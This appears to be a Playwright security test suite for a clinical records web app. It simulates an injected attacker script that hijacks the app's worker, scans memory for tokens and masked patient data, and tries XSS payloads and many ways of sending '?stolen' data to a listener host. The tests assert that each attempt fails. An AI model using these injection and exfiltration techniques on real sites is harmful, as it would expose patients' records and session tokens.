import type { CDPSession, Page } from '@playwright/test';
import { expect as patient, test } from './support/app.ts';
import { inSandbox, signedIn, withListener } from './support/attack.ts';
import { facts, watchTokens } from './support/clinician.ts';
import { MASKED, SECRET, SPILLED } from './support/secrets.ts';

/**
 * As an attacker would: a script that got into the page after all. What it tries is named one by one, and none of it yields
 * a token or a word of what is masked. What it can do all the same is told in SECURITY.md.
 */

const expect = patient.configure({ timeout: 20_000 });
test.setTimeout(180_000);

/** Lays hands on the app's worker the next time that the app speaks to it, and hears all that it says from then on. */
async function takeWorker(page: Page): Promise<void> {
  await page.evaluate(() => {
    const post = Worker.prototype.postMessage;
    const heard: unknown[] = [];
    Reflect.set(window, 'heard', heard);
    Worker.prototype.postMessage = function (this: Worker, ...args: [unknown]) {
      if (Reflect.get(window, 'taken') === undefined) {
        Reflect.set(window, 'taken', this);
        this.addEventListener('message', ({ data }) => void heard.push(data));
      }
      return Reflect.apply(post, this, args) as undefined;
    };
  });
  await page.getByRole('searchbox').first().fill('diabetes');
  await expect.poll(() => page.evaluate(() => Reflect.get(window, 'taken') !== undefined)).toBe(true);
  await page.getByRole('searchbox').first().fill('');
}

/** Asks the worker, past the app; what it answers as text, files unfolded. */
const asks = (page: Page, kind: string, ask: unknown): Promise<string> =>
  page.evaluate(
    async ([what, question]) => {
      const worker = Reflect.get(window, 'taken') as Worker;
      // Answers with files are told by their text beside it.
      const id = 1e9 + Math.floor(Math.random() * 1e9);
      const answer = await new Promise<unknown>((resolve) => {
        // Several things are said in one message.
        worker.addEventListener('message', function once({ data }: MessageEvent<readonly { id?: number }[]>) {
          const mine = data.find((said) => said.id === id);
          if (mine === undefined) return;
          worker.removeEventListener('message', once);
          resolve(mine);
        });
        worker.postMessage([{ id, kind: what, ask: question }]);
        setTimeout(() => resolve('no answer'), 5_000);
      });
      const file = (answer as { answer?: { file?: unknown } }).answer?.file;
      const text = file instanceof Blob ? await file.text() : '';
      return `${JSON.stringify(answer, (_key, value: unknown) => (value instanceof Uint8Array ? [...value] : value))} ${text}`;
    },
    [kind, ask] as const,
  );

/** Everything that a script can reach from the window and from any element, as far as it is text. */
const reachable = (page: Page): Promise<string> =>
  page.evaluate(() => {
    const seen = new Set<object>();
    const texts: string[] = [];
    const queue: object[] = [window, document, ...document.querySelectorAll('*')];
    while (queue.length > 0 && seen.size < 2_000_000) {
      const next = queue.pop();
      if (next === undefined || seen.has(next)) continue;
      seen.add(next);
      const take = (value: unknown): void => {
        if (typeof value === 'string') texts.push(value);
        else if ((typeof value === 'object' && value !== null) || typeof value === 'function')
          queue.push(value);
      };
      if (next instanceof Map) [...next].flat().forEach(take);
      if (next instanceof Set) next.forEach(take);
      for (const key of Reflect.ownKeys(next)) {
        try {
          take(Reflect.get(next, key));
        } catch {
          // A getter that needs another receiver.
        }
      }
      const above: unknown = Object.getPrototypeOf(next);
      take(above);
    }
    return `${seen.size} ${texts.join('\n')}`;
  });

/** The whole heap of the page, what no script can reach included, after what is of no use has been collected. */
async function heap(session: CDPSession): Promise<string> {
  const chunks: string[] = [];
  session.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => chunks.push(chunk));
  await session.send('HeapProfiler.enable');
  for (let i = 0; i < 3; i++) await session.send('HeapProfiler.collectGarbage');
  await session.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false });
  await session.send('HeapProfiler.disable');
  // Its texts: the rest are numbers of the snapshot itself.
  return (JSON.parse(chunks.join('')) as { strings: string[] }).strings.join('\n');
}

/** A heap is full of numbers of its own: there a masked figure is told by its unit. */
const IN_HEAP = new RegExp(`${SECRET}|77[ ,.\u00a0\u202f]?70[123].{0,3}mg`, 'i');
const spilled = (where: string, text: string): string | null =>
  (where.includes('heap') ? IN_HEAP : SPILLED).exec(text)?.[0] ?? null;

const anyOf = (tokens: ReadonlySet<string>, text: string): number =>
  [...tokens].filter((token) => text.includes(token)).length;

test('a script in the page finds no token and no masked word in anything that it can reach', async ({
  page,
  context,
}) => {
  const tokens = watchTokens(context);
  await inSandbox(async (sandbox) => {
    await page.addInitScript(() => {
      const said: unknown[] = [];
      Reflect.set(window, 'overheard', said);
      window.addEventListener('message', ({ data }) => void said.push(data));
      for (const method of ['log', 'info', 'debug', 'warn', 'error'] as const)
        console[method] = (...args: unknown[]) => void said.push(args);
    });
    await signedIn(page, sandbox);
    expect(tokens.size).toBeGreaterThan(0);
    await takeWorker(page);
    for (const name of ['Summary', 'Trends', 'Sources', 'Timeline']) {
      await page
        .getByRole('navigation', { name: 'Views' })
        .getByRole('button', { name, exact: true })
        .click();
      await expect(page.getByRole('main')).toBeVisible();
    }
    await facts(page)
      .getByRole('option', { name: /Masked/ })
      .first()
      .click();
    const places: Readonly<Record<string, string>> = {
      'all that it can reach': await reachable(page),
      'all that the worker said': await page.evaluate(() => JSON.stringify(Reflect.get(window, 'heard'))),
      'messages and the console': await page.evaluate(() => JSON.stringify(Reflect.get(window, 'overheard'))),
      'the measures of what was asked': await page.evaluate(() => JSON.stringify(performance.getEntries())),
      'what is stored': await page.evaluate(async () => {
        const caches_ = await Promise.all((await caches.keys()).map((key) => caches.open(key)));
        return JSON.stringify([
          { ...localStorage },
          { ...sessionStorage },
          await indexedDB.databases(),
          caches_.length,
          document.cookie,
          history.state,
          window.name,
          document.referrer,
          location.href,
          document.title,
          (await navigator.serviceWorker.getRegistrations()).length,
        ]);
      }),
      'the whole heap of the page': await heap(await context.newCDPSession(page)),
    };
    for (const [where, text] of Object.entries(places)) {
      expect(text.length, where).toBeGreaterThanOrEqual(2);
      expect(anyOf(tokens, text), `a token in ${where}`).toBe(0);
      expect(spilled(where, text), `a masked word in ${where}`).toBeNull();
    }
    // The looks see what is there: what is open is found by them.
    expect(places['all that it can reach']).toContain('Santos');
    expect(places['the whole heap of the page']).toContain('Zzpart two');
    expect(Number.parseInt(places['all that it can reach'] ?? '', 10)).toBeGreaterThan(5_000);
  });
});

test('a script that has the worker gets nothing of what is masked by any request, and no token', async ({
  page,
  context,
}) => {
  const tokens = watchTokens(context);
  await inSandbox(async (sandbox) => {
    await signedIn(page, sandbox);
    await takeWorker(page);
    const query = {
      text: '',
      kinds: null,
      sources: null,
      window: null,
      only: [],
      includeRetracted: true,
    };
    const rows = await asks(page, 'rows', { query, offset: 0, limit: 5_000 });
    const answered = JSON.parse(rows) as {
      answer: { rows: { id: string; flags: { masked: boolean } }[] };
    };
    const masked = answered.answer.rows.filter(({ flags }) => flags.masked).map(({ id }) => id);
    const open = answered.answer.rows.find(({ flags }) => !flags.masked)?.id ?? '';
    expect(answered.answer.rows.length).toBeGreaterThan(40);
    expect(masked).toHaveLength(MASKED);

    const source = 'general';
    const refs = ['Condition/masked', 'Observation/masked-1', 'DocumentReference/masked-letter'];
    const base = sandbox.orgs.general.iss;
    const asked: [string, unknown][] = [
      ...masked.flatMap((id): [string, unknown][] => [
        ['detail', { id }],
        ['sealed', { id }],
        ['trend', { fact: id, drawn: 100, listed: 100 }],
        ['trend', { fact: open, also: [id], drawn: 100, listed: 100 }],
        ['pairs', { id, other: null }],
        ['pairs', { id: open, other: id }],
        ['decide', { kind: 'join', facts: [open, id], reason: 'as I say' }],
        ['decide', { kind: 'split', fact: id, off: null, reason: 'as I say' }],
        ['reveal', { id, purpose: 'HRESCH', reason: 'as I say', alike: true }],
        ['reveal', { id, purpose: 'TREAT', reason: ' ', alike: true }],
        ['conceal', { id }],
      ]),
      ...refs.flatMap((ref): [string, unknown][] => [
        ['detail', { id: `${source}|${ref}` }],
        ['raw', { source, ref }],
        ['narrative', { source, ref }],
        ['details', { source, ref }],
        ['attachment', { source, ref, index: 0 }],
        ['link', { source, ref, reason: 'as I say' }],
      ]),
      ...[SECRET, '77701', '2345-7'].flatMap((text): [string, unknown][] => [
        ['rows', { query: { ...query, text }, offset: 0, limit: 100 }],
        ['overview', { query: { ...query, text }, bins: 20 }],
        ['copy', { query: { ...query, text }, format: 'csv', mark: false }],
      ]),
      ['rows', { query: { ...query, by: 'visit' }, offset: 0, limit: 5_000 }],
      ['paper-rows', { query, limit: 5_000 }],
      ['paper-latest', null],
      ['latest', null],
      ['copy-plan', { query }],
      ['copy', { query, format: 'bundle', mark: false }],
      ['copy', { query, format: 'csv', mark: true }],
      ['problems', { source: null }],
      ['unmapped', null],
      ['delays', null],
      ['ledger', null],
      ['audit', null],
      ['decisions', null],
      ['export-decisions', null],
      ['matches', { source }],
      ['find-patients', { source, question: { name: SECRET, birthDate: '', identifier: '' } }],
      // A laxer policy, another receiver, another server in the place of this one.
      [
        'connect',
        {
          signedIn: {
            source: 'x',
            base,
            tokens: null,
            patient: null,
            encounter: null,
            granted: 'patient/*.rs',
          },
          site: {
            app: 'http://localhost:1',
            audit: 'http://localhost:1/',
            policy: { classes: [], confidentialities: [] },
            names: {},
          },
        },
      ],
      ['rows', { query, offset: 0, limit: 5_000 }],
      ['record', { act: 'reveal', what: [] }],
      ['constructor', {}],
      ['__proto__', {}],
      ['toString', null],
    ];
    // What is open is answered: the questions are asked rightly.
    expect(await asks(page, 'detail', { id: open })).toContain('"members":[{');
    expect(await asks(page, 'copy', { query, format: 'csv', mark: false })).toContain('Zzpart two');
    for (const [kind, ask] of asked) {
      const said = await asks(page, kind, ask);
      expect(said, kind).not.toContain('no answer');
      const question = JSON.stringify(ask);
      // What was asked for may be said again; nothing else of it.
      const more = said.replaceAll(question, '').replaceAll(`"${SECRET}"`, '""');
      expect(SPILLED.exec(more)?.[0] ?? null, `${kind} ${question}`).toBeNull();
      expect(anyOf(tokens, said), `${kind} ${question}`).toBe(0);
      expect(said, `${kind} ${question}`).not.toContain(Buffer.from(SECRET).toString('base64'));
      expect(said, `${kind} ${question}`).not.toContain(JSON.stringify([...Buffer.from(SECRET)]));
    }
  });
});

test('a script in the page makes no code of text and sends nothing elsewhere by any request', async ({
  page,
}) => {
  await inSandbox((sandbox) =>
    withListener(async (elsewhere, heard) => {
      await signedIn(page, sandbox);
      const ran = await page.evaluate(async (to) => {
        // What the debugger evaluates may evaluate in its turn; what runs after it is held to the page's policy.
        await new Promise((resolve) => setTimeout(resolve, 0));
        const tries: Record<string, () => unknown> = {
          eval: () => (Reflect.get(window, 'eval') as (text: string) => unknown)('window.ran = "eval"'),
          Function: () => new Function('window.ran = "Function"')() as unknown,
          timer: () => setTimeout('window.ran = "timer"' as unknown as () => void, 0),
          markup: () => (document.body.innerHTML = '<img src=x onerror="window.ran=1">'),
          fragment: () =>
            document.body.append(
              document.createRange().createContextualFragment('<script>window.ran=1</script>'),
            ),
          policy: () =>
            (
              Reflect.get(window, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown }
            ).createPolicy('mine', {
              createHTML: (text: string) => text,
              createScript: (text: string) => text,
            }),
          'the app’s own policy again': () =>
            (
              Reflect.get(window, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown }
            ).createPolicy('throughline-worker', { createScriptURL: (text: string) => text }),
          'worker of text': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
          'base element': () => {
            const base = document.createElement('base');
            base.href = to;
            document.head.append(base);
            if (document.baseURI.startsWith(to)) throw new Error('moved');
            return 'refused';
          },
        };
        const done: string[] = [];
        for (const [name, attempt] of Object.entries(tries)) {
          try {
            if (attempt() !== 'refused') done.push(name);
          } catch {
            // As it should be.
          }
        }
        const element = (name: string, set: Record<string, string>): void => {
          const made = document.createElement(name);
          try {
            for (const [key, value] of Object.entries(set)) made.setAttribute(key, value);
          } catch {
            // An address that loads code is refused as text.
          }
          document.body.append(made);
        };
        const refused = async (attempt: Promise<unknown>, name: string): Promise<void> =>
          attempt.then(
            () => void done.push(name),
            () => undefined,
          );
        await refused(fetch(`${to}/fetch?stolen`), 'fetch');
        await refused(fetch(`${to}/opaque?stolen`, { mode: 'no-cors' }), 'an opaque fetch');
        await refused(import(`${to}/module.js`), 'a module');
        await refused(navigator.serviceWorker.register('/config.json'), 'a service worker');
        navigator.sendBeacon(`${to}/beacon?stolen`);
        new Image().src = `${to}/image?stolen`;
        for (const [name, set] of [
          ['img', { src: `${to}/img?stolen`, srcset: `${to}/srcset?stolen` }],
          ['iframe', { src: `${to}/frame?stolen` }],
          ['object', { data: `${to}/object?stolen` }],
          ['embed', { src: `${to}/embed?stolen` }],
          ['video', { src: `${to}/video?stolen`, poster: `${to}/poster?stolen` }],
          ['link', { rel: 'stylesheet', href: `${to}/style?stolen` }],
          ['link', { rel: 'prefetch', href: `${to}/prefetch?stolen` }],
          ['link', { rel: 'preload', as: 'image', href: `${to}/preload?stolen` }],
          ['link', { rel: 'modulepreload', href: `${to}/modulepreload?stolen` }],
          ['link', { rel: 'icon', href: `${to}/icon?stolen` }],
          ['link', { rel: 'manifest', href: `${to}/manifest?stolen` }],
          ['p', { style: `background-image: url(${to}/inline?stolen)` }],
          ['p', { onclick: 'window.ran = "handler"', id: 'handler' }],
        ] as const)
          element(name, set);
        document.getElementById('handler')?.click();
        const form = document.createElement('form');
        Object.assign(form, { action: `${to}/form?stolen`, method: 'post', target: '_self' });
        document.body.append(form);
        form.submit();
        try {
          new WebSocket(`${to.replace('http', 'ws')}/socket?stolen`);
          new EventSource(`${to}/events?stolen`);
        } catch {
          // Refused at once by some, later by others.
        }
        await new Promise((resolve) => setTimeout(resolve, 1_500));
        return { done, ran: Reflect.get(window, 'ran') as unknown };
      }, elsewhere);
      expect(ran.done).toEqual([]);
      expect(ran.ran).toBeUndefined();
      expect(heard).toEqual([]);
      // It would be heard: leading the tab there is what no header forbids.
      await page.evaluate((to) => void (location.href = `${to}/led?there`), elsewhere);
      await expect.poll(() => heard).toContain('/led?there');
      // Arrived: a browser that is closed on its way somewhere may wait for a server that is gone.
      await page.waitForURL(`${elsewhere}/led?there`);
    }),
  );
});

test('what is signed out is gone from the page’s memory, and so is what was opened and shown', async ({
  page,
  context,
}) => {
  const tokens = watchTokens(context);
  await inSandbox(async (sandbox) => {
    await signedIn(page, sandbox);
    await facts(page).getByRole('option').nth(3).click();
    await expect(page.getByRole('article')).toBeVisible();
    await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Summary' }).click();
    await expect(page.getByRole('main')).toBeVisible();
    const session = await context.newCDPSession(page);
    // Words that nothing of the test itself has said to the page.
    const before = await heap(session);
    const words = ['Santos', 'etformin', 'ypertension', '1961-'].filter((word) => before.includes(word));
    expect(words.length).toBeGreaterThanOrEqual(3);
    await page.getByRole('button', { name: 'Close patient' }).click();
    await page.getByRole('button', { name: 'Close and sign out' }).click();
    await expect(page.getByRole('heading', { name: 'One timeline from every record' })).toBeVisible();
    await expect.poll(() => page.workers().length).toBe(1);
    const left = await heap(session);
    expect(words.filter((word) => left.includes(word))).toEqual([]);
    expect(anyOf(tokens, left)).toBe(0);
    const found = await reachable(page);
    expect(words.filter((word) => found.includes(word))).toEqual([]);
  });
});
